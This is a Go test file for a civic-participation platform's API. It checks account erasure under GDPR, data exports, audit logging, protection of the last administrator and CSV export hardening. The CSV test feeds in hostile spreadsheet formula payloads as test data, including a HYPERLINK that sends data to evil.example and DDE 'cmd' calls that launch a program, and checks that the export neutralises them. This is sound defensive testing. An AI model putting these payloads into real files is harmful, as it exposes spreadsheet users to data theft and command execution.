package api_test

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cd06/smartdeal/dashboards/api"
	"github.com/cd06/smartdeal/dashboards/civic"
	"github.com/cd06/smartdeal/dashboards/sqlstore/sqltest"
)

// signUpIn creates a citizen account through the API and signs it in.
func (e *env) signUpIn(email, name, password string) (*civic.User, string) {
	e.t.Helper()
	e.call("POST", "/api/v1/auth/signup", "", map[string]any{"email": email, "name": name, "password": password}, 201, nil)
	var in struct {
		Token string      `json:"token"`
		User  *civic.User `json:"user"`
	}
	e.call("POST", "/api/v1/auth/signin", "", map[string]any{"email": email, "password": password}, 200, &in)
	return in.User, in.Token
}

// rowsHolding lists the table rows (as text) of db that contain one of
// secrets, in every table of the store's database (its schema on PostgreSQL).
func rowsHolding(t *testing.T, db *sql.DB, postgres bool, secrets []string) []string {
	t.Helper()
	ctx := context.Background()
	q := `SELECT name FROM sqlite_master WHERE type = 'table'`
	if postgres {
		q = `SELECT table_name FROM information_schema.tables WHERE table_schema = current_schema() AND table_type = 'BASE TABLE'`
	}
	rows, err := db.QueryContext(ctx, q)
	if err != nil {
		t.Fatal(err)
	}
	var tables []string
	for rows.Next() {
		var n string
		if err := rows.Scan(&n); err != nil {
			t.Fatal(err)
		}
		tables = append(tables, n)
	}
	rows.Close()
	if len(tables) < 10 {
		t.Fatalf("only %d tables found: %v", len(tables), tables)
	}
	var found []string
	for _, table := range tables {
		rows, err := db.QueryContext(ctx, `SELECT * FROM `+table)
		if err != nil {
			t.Fatalf("%s: %v", table, err)
		}
		cols, _ := rows.Columns()
		for rows.Next() {
			vals := make([]any, len(cols))
			ptrs := make([]any, len(cols))
			for i := range vals {
				ptrs[i] = &vals[i]
			}
			if err := rows.Scan(ptrs...); err != nil {
				t.Fatalf("%s: %v", table, err)
			}
			var b strings.Builder
			for _, v := range vals {
				if raw, ok := v.([]byte); ok {
					v = string(raw)
				}
				fmt.Fprintf(&b, "%v|", v)
			}
			for _, s := range secrets {
				if strings.Contains(strings.ToLower(b.String()), strings.ToLower(s)) {
					found = append(found, table+": "+b.String())
				}
			}
		}
		rows.Close()
	}
	return found
}

// TestErasureLeavesNoTrace: a citizen with a distinctive e-mail, name and
// password opts in to status e-mails, proposes (the publication queues a
// status mail it has not been sent yet), comments, votes, asks for a
// password reset (a queued mail naming only the address), fails a sign-in
// and is audited (role change, export), then erases the account. No table
// row holds the e-mail, name, password hash or account id any more (SQLite
// and PostgreSQL: the e-mail preferences and both queued mails are gone), the
// SQLite database file and its -wal and -shm hold none of those bytes, and
// vote counts stay right: the support on a proposal whose voting has closed
// stays counted, the one on a proposal still open is withdrawn.
func TestErasureLeavesNoTrace(t *testing.T) {
	for _, b := range sqltest.Stores(t) {
		t.Run(b.Name, func(t *testing.T) {
			ctx := context.Background()
			e := newEnv(t, b, nil, api.Config{})
			tag := civic.NewID()
			email := "Zephyrine.Quennec." + tag + "@Example.fr"
			name := "Zéphyrine Quennec-Brouard " + tag
			password := "Wq8!taupe-" + tag
			u, tok := e.signUpIn(email, name, password)
			e.verify(email)
			stored, err := e.st.UserByEmail(ctx, email)
			if err != nil || !strings.HasPrefix(stored.PasswordHash, "$argon2id$") {
				t.Fatalf("stored account: %+v %v", stored, err)
			}
			_, voter := e.user(civic.RoleCitizen)
			_, expert := e.user(civic.RoleExpert)
			e.call("PUT", "/api/v1/me/notifications", tok, map[string]bool{"own_proposals": true, "supported_proposals": true}, 200, nil)

			mine := e.idea(tok, 1000, true)   // public: stays, anonymous
			draft := e.idea(tok, 2000, false) // never public: goes
			closed := e.idea(voter, 10, true)
			open := e.idea(voter, 10, true)
			for _, p := range []string{closed.ID, open.ID, mine.ID} {
				e.call("POST", "/api/v1/ideas/"+p+"/vote", tok, nil, 200, nil)
				e.call("POST", "/api/v1/ideas/"+p+"/vote", voter, nil, 200, nil)
			}
			for _, st := range []string{"shortlisted", "under_review"} { // voting closes
				e.call("POST", "/api/v1/ideas/"+closed.ID+"/status", expert, map[string]any{"status": st}, 200, nil)
			}
			var approved, pending civic.Comment
			e.call("POST", "/api/v1/ideas/"+open.ID+"/comments", tok, map[string]any{"body": "Je soutiens ce projet."}, 201, &approved)
			e.call("POST", "/api/v1/ideas/"+open.ID+"/comments", tok, map[string]any{"body": "Encore en attente."}, 201, &pending)
			e.call("PUT", "/api/v1/comments/"+approved.ID+"/status", e.admin, map[string]any{"status": "approved"}, 200, nil)
			e.problem("POST", "/api/v1/auth/signin", "", map[string]any{"email": email, "password": "not the password"}, 401)
			e.call("POST", "/api/v1/auth/password/forgot", "", map[string]any{"email": email}, 202, nil)
			e.call("GET", "/api/v1/me/export", tok, nil, 200, nil)
			before := map[string]int{}
			for _, p := range []string{closed.ID, open.ID, mine.ID} {
				var got civic.Proposal
				e.call("GET", "/api/v1/ideas/"+p, "", nil, 200, &got)
				before[p] = got.Votes
			}
			e.call("PUT", "/api/v1/users/"+u.ID+"/role", e.admin, map[string]any{"role": "expert"}, 204, nil)

			secrets := []string{strings.ToLower(email), name, stored.PasswordHash, u.ID}
			if found := rowsHolding(t, e.st.DB(), b.Store.Postgres(), secrets); len(found) == 0 {
				t.Fatal("the check finds nothing before the erasure: it would prove nothing after")
			}
			// What the erasure must take with it: the consent, the status
			// mail queued by the publication (nothing sends mail in this
			// test) and the reset mail, which names only the address.
			count := func(q string, args ...any) int {
				t.Helper()
				if b.Store.Postgres() {
					for i := range args {
						q = strings.Replace(q, "?", fmt.Sprintf("$%d", i+1), 1)
					}
				}
				var n int
				if err := e.st.DB().QueryRowContext(ctx, q, args...).Scan(&n); err != nil {
					t.Fatal(err)
				}
				return n
			}
			if n := count(`SELECT COUNT(*) FROM notification_prefs WHERE user_id = ? AND own_since IS NOT NULL`, u.ID); n != 1 {
				t.Fatalf("%d consent rows before the erasure", n)
			}
			if n := count(`SELECT COUNT(*) FROM mail_outbox WHERE kind = 'status' AND user_id = ? AND proposal_id = ?`, u.ID, mine.ID); n != 1 {
				t.Fatalf("%d status mails queued about the published proposal before the erasure, want 1", n)
			}
			if n := count(`SELECT COUNT(*) FROM mail_outbox WHERE kind = 'reset' AND user_id IS NULL AND recipient = ?`, strings.ToLower(email)); n != 1 {
				t.Fatalf("%d reset mails queued before the erasure, want 1", n)
			}
			e.call("DELETE", "/api/v1/me", tok, nil, 204, nil)

			if found := rowsHolding(t, e.st.DB(), b.Store.Postgres(), secrets); len(found) > 0 {
				t.Errorf("rows still holding the erased account's data:\n%s", strings.Join(found, "\n"))
			}
			if !b.Store.Postgres() {
				for _, f := range []string{b.DSN, b.DSN + "-wal", b.DSN + "-shm"} {
					raw, err := os.ReadFile(f)
					if err != nil && !os.IsNotExist(err) {
						t.Fatal(err)
					}
					for _, s := range append(secrets, email) {
						if bytes.Contains(bytes.ToLower(raw), bytes.ToLower([]byte(s))) {
							t.Errorf("%s (%d bytes) still holds %q", f, len(raw), s)
						}
					}
				}
			}

			e.problem("GET", "/api/v1/ideas/"+draft.ID, e.admin, nil, 404)
			want := map[string]int{closed.ID: before[closed.ID], open.ID: before[open.ID] - 1, mine.ID: before[mine.ID] - 1}
			for p, n := range want {
				var got civic.Proposal
				e.call("GET", "/api/v1/ideas/"+p, "", nil, 200, &got)
				if got.Votes != n || got.AuthorID != "" && p == mine.ID {
					t.Errorf("proposal %s after erasure: %d votes (want %d), author %q", p, got.Votes, n, got.AuthorID)
				}
			}
			var od struct {
				Proposals []struct {
					ID    string `json:"id"`
					Votes int    `json:"votes"`
				} `json:"proposals"`
			}
			e.call("GET", "/opendata/proposals.json", "", nil, 200, &od)
			for _, p := range od.Proposals {
				if n, ok := want[p.ID]; ok && p.Votes != n {
					t.Errorf("open data: %s has %d votes, want %d", p.ID, p.Votes, n)
				}
			}
			var cms []civic.Comment
			e.call("GET", "/api/v1/ideas/"+open.ID+"/comments", e.admin, nil, 200, &cms)
			if len(cms) != 1 || cms[0].ID != approved.ID || cms[0].AuthorID != "" {
				t.Errorf("comments after erasure: %+v", cms)
			}
			var h []civic.StatusChange
			e.call("GET", "/api/v1/ideas/"+mine.ID+"/history", "", nil, 200, &h)
			if len(h) != 2 || h[0].By != civic.ErasedUser {
				t.Errorf("history after erasure: %+v", h)
			}
			e.problem("POST", "/api/v1/auth/signin", "", map[string]any{"email": email, "password": password}, 401)
		})
	}
}

// TestExportHoldsNoOneElse: the GDPR export of an account holds its own data
// and nothing about anyone else — not the address of a stranger who tried
// its password, not the failed sign-ins of other accounts, not the
// administrator who changed its role, not the accounts it acted on.
func TestExportHoldsNoOneElse(t *testing.T) {
	for _, b := range sqltest.Stores(t) {
		t.Run(b.Name, func(t *testing.T) {
			e := newEnv(t, b, nil, api.Config{TrustedProxies: []string{"127.0.0.1"}})
			base := serve(t, e)
			post := func(path, xff, body string) int {
				t.Helper()
				req, _ := http.NewRequest("POST", base+path, strings.NewReader(body))
				req.Header.Set("Content-Type", "application/json")
				req.Header.Set("X-Forwarded-For", xff)
				resp, err := http.DefaultClient.Do(req)
				if err != nil {
					t.Fatal(err)
				}
				resp.Body.Close()
				return resp.StatusCode
			}
			tag := civic.NewID()
			victimMail, otherMail := "victime."+tag+"@example.fr", "voisin."+tag+"@example.fr"
			victim, tok := e.signUpIn(victimMail, "Victime "+tag, "mot de passe victime")
			other, otherTok := e.signUpIn(otherMail, "Voisin "+tag, "mot de passe voisin")

			// A stranger tries the victim's password; the neighbour fails
			// their own sign-in; someone tries an unknown address.
			for _, tc := range []struct{ xff, email string }{
				{"203.0.113.66", victimMail},
				{"198.51.100.23", otherMail},
				{"192.0.2.99", "personne." + tag + "@example.fr"},
			} {
				if got := post("/api/v1/auth/signin", tc.xff, `{"email":"`+tc.email+`","password":"wrong password"}`); got != 401 {
					t.Fatalf("failed sign-in from %s: %d", tc.xff, got)
				}
			}
			// The administrator makes the victim an administrator, who then
			// changes the neighbour's role.
			e.call("PUT", "/api/v1/users/"+victim.ID+"/role", e.admin, map[string]any{"role": "admin"}, 204, nil)
			e.call("PUT", "/api/v1/users/"+other.ID+"/role", tok, map[string]any{"role": "expert"}, 204, nil)
			e.call("GET", "/api/v1/me/export", otherTok, nil, 200, nil)
			var log []civic.AuditEntry
			e.call("GET", "/api/v1/audit?limit=1000", e.admin, nil, 200, &log)
			adminID := ""
			for _, a := range log {
				if a.Action == "user.role" && a.Target == victim.ID {
					adminID = a.Actor
				}
			}
			if adminID == "" || adminID == victim.ID {
				t.Fatalf("no role change by the administrator in %+v", log)
			}

			resp, raw := e.do("GET", "/api/v1/me/export", tok, nil)
			if resp.StatusCode != 200 {
				t.Fatalf("export: %d %s", resp.StatusCode, raw)
			}
			for _, s := range []string{"203.0.113.66", "198.51.100.23", "192.0.2.99", adminID, other.ID, otherMail, "Voisin"} {
				if strings.Contains(string(raw), s) {
					t.Errorf("the export holds %q, which is not the victim's: %s", s, raw)
				}
			}
			var ex civic.Export
			if err := json.Unmarshal(raw, &ex); err != nil {
				t.Fatal(err)
			}
			seen := map[string]civic.AuditEntry{}
			for _, a := range ex.Audit {
				seen[a.Action+" "+a.Actor+" "+a.Target+" "+a.Detail] = *a
			}
			for _, want := range []string{
				"auth.signin " + victim.ID + " " + victim.ID + " bearer", // the victim's own sign-in, as it is
				"auth.signin_failed other " + victim.ID + " ",            // someone tried: when, not who or from where
				"user.role other " + victim.ID + " admin",                // what was done to the account, not by whom
				"user.role " + victim.ID + " other ",                     // what the account did to another, not to whom
			} {
				if _, ok := seen[want]; !ok {
					t.Errorf("export lacks audit entry %q; has %v", want, seen)
				}
			}
			if ex.User.Email != victimMail {
				t.Errorf("export user %+v", ex.User)
			}
		})
	}
}

// TestLastAdminRefused: the only administrator can neither demote itself
// nor erase its account (409, English detail and French detail_fr), and
// can once another administrator exists.
func TestLastAdminRefused(t *testing.T) {
	for _, b := range sqltest.Stores(t) {
		t.Run(b.Name, func(t *testing.T) {
			e := newEnv(t, b, nil, api.Config{})
			var me civic.User
			e.call("GET", "/api/v1/me", e.admin, nil, 200, &me)
			for _, tc := range []struct {
				method, path string
				body         any
			}{
				{"PUT", "/api/v1/users/" + me.ID + "/role", map[string]any{"role": "citizen"}},
				{"DELETE", "/api/v1/me", nil},
			} {
				p := e.problem(tc.method, tc.path, e.admin, tc.body, 409)
				if p["code"] != civic.ECONFLICT || !strings.Contains(p["detail"].(string), "last administrator") ||
					!strings.Contains(fmt.Sprint(p["detail_fr"]), "dernier compte administrateur") {
					t.Fatalf("%s %s: %v", tc.method, tc.path, p)
				}
			}
			e.call("GET", "/api/v1/me", e.admin, nil, 200, &me)
			if me.Role != civic.RoleAdmin {
				t.Fatalf("refused demotion applied: %s", me.Role)
			}
			second, secondTok := e.user(civic.RoleCitizen)
			e.call("PUT", "/api/v1/users/"+second.ID+"/role", e.admin, map[string]any{"role": "admin"}, 204, nil)
			// Both administrators demote themselves at once: one stays.
			var wg sync.WaitGroup
			codes := make([]int, 2)
			for i, tok := range []string{e.admin, secondTok} {
				wg.Add(1)
				go func() {
					defer wg.Done()
					id := me.ID
					if i == 1 {
						id = second.ID
					}
					resp, _ := e.do("PUT", "/api/v1/users/"+id+"/role", tok, map[string]any{"role": "citizen"})
					codes[i] = resp.StatusCode
				}()
			}
			wg.Wait()
			if !(codes[0] == 204 && codes[1] == 409 || codes[0] == 409 && codes[1] == 204) {
				t.Fatalf("concurrent self-demotions: %v, want one 204 and one 409", codes)
			}
		})
	}
}

// TestAuditOfChanges: theme creation, campaign creation, link creation and
// removal and expert reviews are in the audit log with who and what.
func TestAuditOfChanges(t *testing.T) {
	for _, b := range sqltest.Stores(t) {
		t.Run(b.Name, func(t *testing.T) {
			e := newEnv(t, b, nil, api.Config{})
			var adminU civic.User
			e.call("GET", "/api/v1/me", e.admin, nil, 200, &adminU)
			expertU, expert := e.user(civic.RoleExpert)
			_, citizen := e.user(civic.RoleCitizen)
			e.call("POST", "/api/v1/themes", e.admin, map[string]any{"id": "green-deal", "name_fr": "GREEN Deal", "name_en": "GREEN Deal"}, 201, nil)
			var cp civic.Campaign
			e.call("POST", "/api/v1/campaigns", e.admin, map[string]any{"name": "Appel 2", "starts": time.Now(), "ends": time.Now().Add(time.Hour)}, 201, &cp)
			p := e.idea(citizen, 10, true)
			var l civic.Link
			e.call("POST", "/api/v1/links", expert, map[string]any{"proposal_id": p.ID, "site_id": "var-estuaire", "device_id": "level-1", "quantity": "water_level"}, 201, &l)
			e.call("DELETE", "/api/v1/links/"+l.ID, e.admin, nil, 204, nil)
			for _, st := range []string{"shortlisted"} {
				e.call("POST", "/api/v1/ideas/"+p.ID+"/status", expert, map[string]any{"status": st}, 200, nil)
			}
			e.call("POST", "/api/v1/ideas/"+p.ID+"/reviews", expert, map[string]any{"impact": 5, "feasibility": 4, "cost": 3}, 200, nil)

			var log []civic.AuditEntry
			e.call("GET", "/api/v1/audit?limit=1000", e.admin, nil, 200, &log)
			got := map[string]civic.AuditEntry{}
			for _, a := range log {
				got[a.Action+" "+a.Actor+" "+a.Target] = a
			}
			for _, want := range []struct{ key, detail string }{
				{"theme.create " + adminU.ID + " green-deal", ""},
				{"campaign.create " + adminU.ID + " " + cp.ID, ""},
				{"link.create " + expertU.ID + " " + l.ID, "proposal:" + p.ID + " var-estuaire/level-1/water_level"},
				{"link.delete " + adminU.ID + " " + l.ID, ""},
				{"review.put " + expertU.ID + " " + p.ID, "impact=5 feasibility=4 cost=3"},
			} {
				a, ok := got[want.key]
				if !ok || a.Detail != want.detail || a.At.IsZero() {
					t.Errorf("audit lacks %q (detail %q): %+v", want.key, want.detail, a)
				}
			}
		})
	}
}

// TestCSVFormulaInjection: titles and rejection reasons that a spreadsheet
// would run as formulas come out of the open-data CSV as text (a leading
// single quote), and so does a hostile licence in the series CSV, whose
// negative values stay numbers.
func TestCSVFormulaInjection(t *testing.T) {
	meas, in, db := freshInflux(t)
	e := newEnv(t, sqltest.SQLite(t), meas, api.Config{Licence: "=HYPERLINK(\"http://evil.example/\",\"Licence\")"})
	_, citizen := e.user(civic.RoleCitizen)
	hostile := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"Cliquez")`,
		`+1+cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		"\t=1+1 tabulé",
		"\r=1+1 retour",
	}
	byTitle := map[string]bool{}
	for i, title := range hostile {
		var p civic.Proposal
		e.call("POST", "/api/v1/ideas", citizen, map[string]any{"campaign_id": e.campaign, "theme_id": "securite", "title": title + " (titre)",
			"body": "Texte.", "estimated_cost_eur": 10}, 201, &p)
		e.call("POST", "/api/v1/ideas/"+p.ID+"/status", e.admin, map[string]any{"status": "published"}, 200, nil)
		if i%2 == 1 { // a public rejection, with its reason in the CSV
			e.call("POST", "/api/v1/ideas/"+p.ID+"/status", e.admin, map[string]any{"status": "rejected", "reason": title + " (motif)"}, 200, nil)
		}
		byTitle[p.Title] = true
	}
	resp, body := e.do("GET", "/opendata/proposals.csv", "", nil)
	if resp.StatusCode != 200 {
		t.Fatalf("csv: %d %s", resp.StatusCode, body)
	}
	recs, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil || len(recs) != len(hostile)+1 {
		t.Fatalf("csv: %d records, %v", len(recs), err)
	}
	reasons := 0
	for _, r := range recs[1:] {
		title, reason, licence := r[3], r[5], r[11]
		if !strings.HasPrefix(title, "'") || !byTitle[title[1:]] {
			t.Errorf("title cell %q is not neutralised", title)
		}
		if reason != "" {
			reasons++
			if !strings.HasPrefix(reason, "'") || !strings.HasSuffix(reason, "(motif)") {
				t.Errorf("reason cell %q is not neutralised", reason)
			}
		}
		if !strings.HasPrefix(licence, "'=HYPERLINK") {
			t.Errorf("licence cell %q is not neutralised", licence)
		}
		if r[6] != "0" || r[7] != "10" {
			t.Errorf("numbers changed: votes %q cost %q", r[6], r[7])
		}
	}
	if reasons != len(hostile)/2 {
		t.Errorf("%d rejection reasons, want %d", reasons, len(hostile)/2)
	}

	t0 := time.Now().UTC().Truncate(time.Hour).Add(-2 * time.Hour)
	writeLP(t, in.URL, db+"/autogen", []string{
		fmt.Sprintf("telemetry,site=col,device=t-1,quantity=temperature,unit=Cel value=-3.5 %d", t0.Unix()),
		fmt.Sprintf("telemetry,site=col,device=t-1,quantity=temperature,unit=Cel value=-1e-7 %d", t0.Add(time.Minute).Unix()),
	})
	q := fmt.Sprintf("?start=%s&stop=%s&every=1m", t0.Format(time.RFC3339), t0.Add(time.Hour).Format(time.RFC3339))
	resp, body = e.do("GET", "/opendata/series/col/t-1/temperature.csv"+q, "", nil)
	if resp.StatusCode != 200 {
		t.Fatalf("series csv: %d %s", resp.StatusCode, body)
	}
	recs, err = csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil || len(recs) != 3 {
		t.Fatalf("series csv: %v %v", recs, err)
	}
	if recs[1][6] != "-3.5" || recs[2][6] != "-0.0000001" || !strings.HasPrefix(recs[1][7], "'=HYPERLINK") {
		t.Fatalf("series csv rows: %q", recs[1:])
	}
}

// TestMissionAreaRefused: POST /missions refuses invalid polygons with a 400
// naming the problem, and stores nothing.
func TestMissionAreaRefused(t *testing.T) {
	e := newEnv(t, sqltest.SQLite(t), nil, api.Config{})
	agentID, _ := e.field()
	ring := func(pts ...[]float64) map[string]any {
		return map[string]any{"type": "Polygon", "coordinates": [][][]float64{pts}}
	}
	for _, tc := range []struct {
		name string
		area any
		want string
	}{
		{"self-intersecting", ring([]float64{7.2, 43.6}, []float64{7.3, 43.7}, []float64{7.3, 43.6}, []float64{7.2, 43.7}, []float64{7.2, 43.6}), "intersects itself"},
		{"hole outside", map[string]any{"type": "Polygon", "coordinates": [][][]float64{
			{{7.2, 43.6}, {7.3, 43.6}, {7.3, 43.7}, {7.2, 43.7}, {7.2, 43.6}},
			{{8.2, 43.6}, {8.3, 43.6}, {8.3, 43.7}, {8.2, 43.6}}}}, "lies outside the exterior ring"},
		{"unknown member", map[string]any{"type": "Polygon", "coordinates": square(7.2, 43.6)["coordinates"], "style": "rouge"}, `unknown member "style"`},
		{"unclosed", ring([]float64{7.2, 43.6}, []float64{7.3, 43.6}, []float64{7.3, 43.7}, []float64{7.2, 43.7}), "not closed"},
		{"too few points", ring([]float64{7.2, 43.6}, []float64{7.3, 43.6}, []float64{7.2, 43.6}), "needs at least 4"},
		{"out of range", ring([]float64{7.2, 43.6}, []float64{190, 43.6}, []float64{7.3, 43.7}, []float64{7.2, 43.6}), "out of range"},
		{"non-finite", json.RawMessage(`{"type":"Polygon","coordinates":[[[7.2,43.6],[1e400,43.6],[7.3,43.7],[7.2,43.6]]]}`), "not a finite number"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p := e.problem("POST", "/api/v1/missions", e.admin, mission(agentID, tc.area), 400)
			if p["field"] != "area" || !strings.Contains(fmt.Sprint(p["detail"]), tc.want) {
				t.Fatalf("problem %v, want area: …%s…", p, tc.want)
			}
		})
	}
	if ms, err := e.st.Missions(context.Background()); err != nil || len(ms) != 0 {
		t.Fatalf("missions stored: %d %v", len(ms), err)
	}
	e.call("POST", "/api/v1/missions", e.admin, mission(agentID, square(7.2, 43.6)), 201, nil)
}
